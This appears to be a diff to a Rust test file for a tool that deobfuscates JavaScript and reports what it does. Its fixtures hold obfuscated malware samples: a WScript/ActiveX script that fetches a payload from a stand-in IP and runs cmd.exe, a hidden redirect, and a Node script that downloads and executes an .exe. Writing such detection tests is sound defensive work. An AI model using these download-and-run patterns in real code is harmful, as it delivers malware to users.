@@ -149,7 +149,7 @@ fn the_packer_of_words() {
 #[test]
 fn an_array_of_strings_that_is_turned() {
     check(
-        r#"
+        r"
         var _0x4f2a=['ipt.Shell','open','http://192.0.2.3/p','GET','Run','send','MSXML2.XMLHTTP','WScr','cmd.exe\x20/c\x20x'];
         (function(_0x1,_0x2){var _0x3=function(_0x4){while(--_0x4){_0x1['push'](_0x1['shift']());}};_0x3(++_0x2);}(_0x4f2a,0x5));
         var _0x2b=function(_0x5,_0x6){_0x5=_0x5-0x0;var _0x7=_0x4f2a[_0x5];return _0x7;};
@@ -157,7 +157,7 @@ fn an_array_of_strings_that_is_turned() {
         q[_0x2b('0x5')](_0x2b('0x7'),_0x2b('0x6'),![]);
         q[_0x2b('0x0')]();
         new ActiveXObject(_0x2b('0x2')+_0x2b('0x4'))[_0x2b('0x8')](_0x2b('0x3'));
-        "#,
+        ",
         &["fetch http://192.0.2.3/p", "run cmd.exe /c x"],
     );
 }
@@ -165,12 +165,12 @@ fn an_array_of_strings_that_is_turned() {
 #[test]
 fn an_array_that_is_turned_until_a_sum_fits() {
     check(
-        r#"
+        r"
         function _0x1a(){var s=['location','22NRtYbw','aHR0cDovL2guZXhhbXBsZS8=','3iPCgmj','href','5QfOaEr'];_0x1a=function(){return s;};return _0x1a();}
         function _0x2c(a,b){var s=_0x1a();return _0x2c=function(i,k){i=i-0x10;var v=s[i];return v;},_0x2c(a,b);}
         (function(f,n){var g=_0x2c,s=f();while(!![]){try{var t=parseInt(g(0x11))/1*(parseInt(g(0x13))/1)+parseInt(g(0x15));if(t===n)break;else s['push'](s['shift']());}catch(e){s['push'](s['shift']());}}}(_0x1a,0x47));
         window[_0x2c(0x10)][_0x2c(0x14)]=atob(_0x2c(0x12));
-        "#,
+        ",
         &["fetch http://h.example/"],
     );
 }
@@ -410,7 +410,7 @@ fn programs_of_node() {
 #[test]
 fn a_file_that_node_fetches() {
     check(
-        r#"
+        r"
         const https = require('https'), fs = require('fs'), path = require('path'), os = require('os');
         const dest = path.join(os.tmpdir(), 'u.exe');
         https.get('https://q.example/u.exe', (res) => {
@@ -418,7 +418,7 @@ fn a_file_that_node_fetches() {
             res.pipe(f);
             f.on('finish', () => { f.close(); require('child_process').execFile(dest, ['-s']); });
         });
-        "#,
+        ",
         &["fetch https://q.example/u.exe > %T\\u.exe", "run %T\\u.exe -s"],
     );
 }
